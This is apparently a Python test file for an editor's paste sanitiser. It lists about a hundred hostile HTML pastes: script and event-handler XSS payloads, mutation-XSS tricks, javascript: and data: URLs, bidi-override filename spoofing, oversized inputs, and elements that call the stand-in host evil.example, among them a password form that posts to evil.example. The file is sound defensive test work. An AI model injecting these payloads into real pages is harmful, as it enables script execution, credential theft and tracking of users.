"""A hundred hostile pastes. tests/nasty_pastes.json has the result of each.

`editor` is the result in the editor, in Chromium; `form` is the result if the paste is sent directly to the form. Long
results are shortened to their beginning and their length. With WRITE_PASTES=1, the tests write the results instead of
comparing them; check the diff before you commit it.
"""

import json
import os
from pathlib import Path

_FILE = Path(__file__).with_suffix(".json")
_R, _L, _E, _P = "\u202e", "\u202d", "\u202b", "\u202c"  # override to the left, to the right, embedding, its end
_I, _Q = "\u2067", "\u2069"  # isolate, its end

PASTES = {
    # Scripts
    "script": "<p>a</p><script>alert(1)</script>",
    "script with a source": "<p>a</p><script src=https://evil.example/x.js></script>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script that never ends": "<p>a</p><script>alert(1)",
    "script in svg": "<svg><script>alert(1)</script></svg><p>a</p>",
    "script in a template": "<template><script>alert(1)</script></template><p>a</p>",
    "script in noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><p>a</p>",
    "script behind a null": "<p>a</p><scri\x00pt>alert(1)</scri\x00pt>",
    "script in a comment that ends early": "<!--><script>alert(1)</script>--><p>a</p>",
    "script in cdata": "<![CDATA[<script>alert(1)</script>]]><p>a</p>",
    "script as text": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "script as text twice": "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>",
    "script in vbscript": "<script language=vbscript>MsgBox 1</script><p>a</p>",
    "script of a data island": "<xml><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml><p>a</p>",
    "script in math": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "script in svg in math": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "script in a form that nests": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # Handlers
    "onclick": "<p onclick='alert(1)'>a</p>",
    "onerror": "<img src=x onerror=alert(1)><p>a</p>",
    "onload of svg": "<svg/onload=alert(1)><p>a</p>",
    "onload of the body": "<body onload=alert(1)><p>a</p></body>",
    "onfocus": "<input autofocus onfocus=alert(1)><p>a</p>",
    "ontoggle": "<details open ontoggle=alert(1)><summary>b</summary>a</details>",
    "onstart of a marquee": "<marquee onstart=alert(1)>a</marquee>",
    "onbegin of an animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg><p>a</p>",
    "handler behind a slash": "<p/onmouseover/=alert(1)>a</p>",
    "handler behind a line break": "<p\n\nonmouseover\n=\nalert(1)>a</p>",
    "handler in a broken attribute": '<p title="a"onmouseover="alert(1)">a</p>',
    "handler in a broken tag": "<p <b onmouseover=alert(1)>a</p>",
    # Addresses
    "javascript address": "<a href='javascript:alert(1)'>a</a>",
    "javascript address in capitals": "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "javascript address with a tab": "<a href='java\tscript:alert(1)'>a</a>",
    "javascript address in entities": "<a href='&#106;avascript&colon;alert(1)'>a</a>",
    "javascript address behind a control": "<a href='\x01javascript:alert(1)'>a</a>",
    "javascript address that looks like a page": "<a href='javascript://example.com/%0aalert(1)'>a</a>",
    "javascript address of svg": "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg><p>b</p>",
    "vbscript address": "<a href='vbscript:msgbox(1)'>a</a>",
    "data address": "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "data address of a picture": "<img src='data:image/svg+xml,<svg onload=alert(1)>'><p>a</p>",
    "data address of a big picture": "<img src='data:image/png;base64," + "A" * 90_000 + "'><p>a</p>",
    "blob address": "<a href='blob:https://example.com/1'>a</a>",
    "file address": "<a href='file:///C:/Users/ioana/secret.docx'>a</a>",
    "address with a password": "<a href='https://user:secret@example.com/'>a</a>",
    "address without a scheme": "<a href='//evil.example/'>a</a>",
    "address within the page": "<a href='#top'>a</a>",
    "address with counters": "<a href='https://example.com/a?id=1&utm_source=x&fbclid=y'>a</a>",
    "address behind a search": "<a href='https://www.google.com/url?q=https://example.com/a%3Fid%3D1&sa=D'>a</a>",
    "address behind a mail program": "<a href='https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fexample.com%2F&data=05'>a</a>",
    "address behind a javascript redirect": "<a href='https://www.google.com/url?q=javascript:alert(1)'>a</a>",
    "address of 5000 characters": "<a href='https://example.com/" + "x" * 5000 + "'>a</a>",
    "target and opener": "<a href='https://example.com/' target=_blank rel=opener ping=https://evil.example>a</a>",
    "another base": "<base href='https://evil.example/'><a href='/login'>a</a>",
    # Styles
    "style element": "<style>p { display: none }</style><p>a</p>",
    "style element with an import": "<style>@import 'https://evil.example/x.css';</style><p>a</p>",
    "style over the page": "<p style='position:fixed;inset:0;z-index:99'>a</p>",
    "style with an address": "<p style='background:url(https://evil.example/x)'>a</p>",
    "style with an expression": "<p style='width:expression(alert(1))'>a</p>",
    "style sheet": "<link rel=stylesheet href=https://evil.example/x.css><p>a</p>",
    "hidden text": "<p>a<span style='display:none'> hidden</span><span style='font-size:0'> small</span></p>",
    "classes and ids of ours": "<p id=updates class=update>a</p><div id=content class='update key'>b</div>",
    "names that hide the document": "<a name=cookie href=https://example.com>a</a><form name=body><input name=firstChild></form>",
    # Elements
    "iframe": "<iframe src='https://evil.example/'></iframe><p>a</p>",
    "iframe with a document": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><p>a</p>",
    "object and embed": "<object data=x.swf><embed src=x.swf></object><p>a</p>",
    "form that asks for a password": "<form action=https://evil.example><p>a</p><input type=password><button>Log in</button></form>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'><p>a</p>",
    "picture that counts readers": "<p>a<img src='https://evil.example/pixel.gif' width=1 height=1></p>",
    "picture sets": "<picture><source srcset=https://evil.example/x.webp><img src=https://evil.example/x></picture><p>a</p>",
    "video with a poster": "<video src=https://evil.example/x.mp4 poster=https://evil.example/x autoplay></video><p>a</p>",
    "plaintext": "<p>a</p><plaintext><b>b",
    "textarea that never ends": "<p>a</p><textarea><p>b",
    "title that never ends": "<p>a</p><title><p>b",
    "frameset": "<frameset><frame src=https://evil.example></frameset><p>a</p>",
    "dialog and popover": "<dialog open>b</dialog><div popover id=x>c</div><p>a</p>",
    "custom elements": "<x-evil onclick=alert(1)>a</x-evil>",
    "editable parts": "<div contenteditable=true>a</div>",
    "headings": "<h1>a</h1><h6>b</h6><p>c</p>",
    "smart tags": "<p><st1:place w:st='on'><st1:city>Bucharest</st1:city></st1:place> <o:p>&nbsp;</o:p></p>",
    "conditional comments": "<!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]--><p>a<![if !supportLists]>b<![endif]></p>",
    "preformatted text": "<pre>a\n  b\nc</pre>",
    "ruby": "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
    "unclosed tags": "<p><b>a<i>b<p>c",
    "crossed tags": "<b>a<i>b</b>c</i>",
    "closing tags alone": "</p></div></body></html>a",
    "lists in disorder": "<ul>a<li>b<ul><li>c</ul><ol>d</ol></ul><li>e",
    # Size
    "deep nesting": "<div>" * 3000 + "a" + "</div>" * 3000,
    "deep quotes": "<blockquote>" * 200 + "a",
    "deep lists": "<ul><li>" * 200 + "a",
    "many marks": "<b><i><s>" * 2000 + "a",
    "table of 10,000 cells": "<table>" + ("<tr>" + "<td>1</td>" * 100 + "</tr>") * 100 + "</table>",
    "table that spans too much": "<table><tr><td colspan=99999 rowspan=99999>a</td></tr></table>",
    "table in tables": "<table><tr><td>" * 30 + "a",
    "table for the layout": "<table width=600 bgcolor=red border=0 cellpadding=0><tr><td align=center><p>a</p></td></tr></table>",
    "2 MB of text": "<p>" + "word " * 400_000 + "</p>",
    "2 MB of Arabic": "<p>" + "كلمة " * 400_000 + "</p>",
    "2 MB of markup": "<p><span style='color:red'>a</span></p>" * 50_000,
    "2 MB of nothing": "<p>&nbsp;</p>" * 150_000 + "<p>a</p>",
    "one word of 50,000 letters": "<p>" + "x" * 50_000 + "</p>",
    # Characters
    "null": "<p>a\x00b</p>",
    "controls": "<p>a\x01\x07\x08\x1b\x7f\x85b</p>",
    "controls as entities": "<p>a&#1;&#7;&#27;&#x7f;b</p>",
    "no characters": "<p>a\ufffe\uffff\ufdd0b</p>",
    "invisible characters": "<p>a\u200b\ufeff\u2060b</p>",
    "symbols of a font": "<p>\uf0b7 a \uf0e0 b</p>",
    "a hundred accents": "<p>a" + "\u0301" * 100 + "</p>",
    "override left open": f"<p>a {_R}exe.gpj</p><p>b</p>",
    "override closed": f"<p>a {_R}exe.gpj{_P} b</p>",
    "override to the right": f"<p>{_L}abc{_P}</p>",
    "embedding left open": f"<p>a {_E}b</p><p>c</p>",
    "embedding that is right": f"<p>a {_E}ابج{_P} b</p>",
    "ends without beginnings": f"<p>a{_P}{_Q}{_P} b</p>",
    "isolate that is right": f"<p>a {_I}ابج{_Q} b</p>",
    "isolate left open": f"<p>a {_I}ابج</p><p>b</p>",
    "isolate across paragraphs": f"<p>a {_I}b</p><p>c{_Q} d</p>",
    "isolate across marks": f"<p>a <b>{_I}b</b> c{_Q} d</p>",
    "embedding across an isolate": f"<p>{_E}a{_I}b{_P}c{_Q}d</p>",
    "override as an entity": "<p>a &#x202e;b</p>",
    "only what turns text around": f"<p>{_R}</p>",
    "bdo": "<p><bdo dir=rtl>abc</bdo></p>",
    "language that is none": "<p lang='x\" onclick=alert(1)'>a</p><p lang=12>b</p>",
    # Markup of word processors
    "wrapper of google docs": "<b style='font-weight:normal' id=docs-internal-guid-1><p><span style='font-weight:700'>a</span> b</p></b>",
    "namespaces of office": "<html xmlns:o='urn:schemas-microsoft-com:office:office'><body lang=EN-US><p class=MsoNormal>a<o:p></o:p></p></body></html>",
    "nothing": "",
    "only spaces": "<p>&nbsp;</p><p> \n </p>",
}


def abridged(text: str) -> str:
    return text if len(text) <= 300 else f"{text[:100]}… ({len(text)} characters)"


def check(found: dict[str, str], by: str) -> None:
    """Compare the results of the pastes with the stored ones, or store them."""
    known = json.loads(_FILE.read_text()) if _FILE.exists() else {}
    if os.environ.get("WRITE_PASTES"):
        written = {name: known.get(name, {}) | {by: text} for name, text in found.items()}
        _FILE.write_text(json.dumps(written, ensure_ascii=True, indent=1) + "\n")
        return
    assert found == {name: known[name][by] for name in PASTES}
